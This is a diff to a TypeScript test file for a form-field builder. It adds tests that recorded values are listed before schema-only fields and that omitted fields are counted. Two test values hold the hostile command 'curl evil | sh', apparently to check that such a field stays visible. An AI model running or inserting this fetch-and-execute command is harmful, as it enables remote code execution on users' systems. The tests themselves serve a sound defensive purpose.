@@ -3,9 +3,11 @@ import fc from 'fast-check';
 import type { JsonObject, JsonValue } from '@countersign/contracts';
 import { membersOf } from '@countersign/text';
 import { exactNumber } from './exact-numbers.js';
-import { fieldsOf } from './fields.js';
+import { formOf } from './fields.js';
 import type { Field } from './fields.js';
 import { namesIn, setAt } from './set-at.js';
+
+const fieldsOf = (...given: Parameters<typeof formOf>): readonly Field[] => formOf(...given).fields;
 
 const flat = (fields: readonly Field[]): readonly Field[] =>
   fields.flatMap((field) => [field, ...('fields' in field.control ? flat(field.control.fields) : [])]);
@@ -108,6 +110,33 @@ describe('the fields of a form', () => {
     expect(flat(fieldsOf({}, { properties: wide }, [])).length).toBeLessThanOrEqual(200);
     expect(flat(fieldsOf({ list: Array(5000).fill({}) }, null, [])).length).toBeLessThanOrEqual(200);
     expect(performance.now() - startMs).toBeLessThan(2000);
+  });
+
+  it('show what is recorded before what only the schema names, and say how much is left out', () => {
+    const named = (count: number): JsonObject => ({
+      properties: Object.fromEntries(Array.from({ length: count }, (_, n) => [`p${String(n)}`, { type: 'string' }])),
+    });
+    const filler = Object.fromEntries(Array.from({ length: 120 }, (_, n) => [`k${String(n)}`, 'x']));
+    const value: JsonObject = { p7: 'note', ...filler, command: 'curl evil | sh' };
+    const { fields, left } = formOf(value, named(250), []);
+    const names = fields.map(({ name }) => name);
+    expect(names.slice(0, 122)).toEqual(['p7', ...Object.keys(filler), 'command']);
+    expect(names.slice(122, 125)).toEqual(['p0', 'p1', 'p2']);
+    expect(left).toEqual({ values: 0, absent: 171 });
+    expect(formOf({ a: Array(150).fill({ b: 1 }), c: 2 }, null, []).left).toEqual({ values: 52, absent: 0 });
+    expect(formOf(value, null, []).left).toEqual({ values: 0, absent: 0 });
+    // Nor does what is absent in a first group.
+    const group = formOf({ p0: {}, command: 'curl evil | sh' }, { properties: { p0: named(300) } }, []);
+    expect(group.fields.map(({ name }) => name)).toEqual(['p0', 'command']);
+    expect(group.left).toEqual({ values: 0, absent: 102 });
+  });
+
+  it('stay in their order while a person sets and removes values', () => {
+    const schema: JsonObject = { properties: { a: { type: 'string' }, b: { type: 'string' }, c: { type: 'string' } } };
+    const namesOf = (value: JsonObject) => fieldsOf(value, schema, [], { b: 'x', d: 1 }).map(({ name }) => name);
+    expect(namesOf({ b: 'x', d: 1 })).toEqual(['b', 'd', 'a', 'c']);
+    expect(namesOf({ b: 'x', d: 1, c: 'y' })).toEqual(['b', 'd', 'a', 'c']);
+    expect(namesOf({ d: 1 })).toEqual(['b', 'd', 'a', 'c']);
   });
 
   it('have exactly the values of the arguments, and give back what they show', () => {
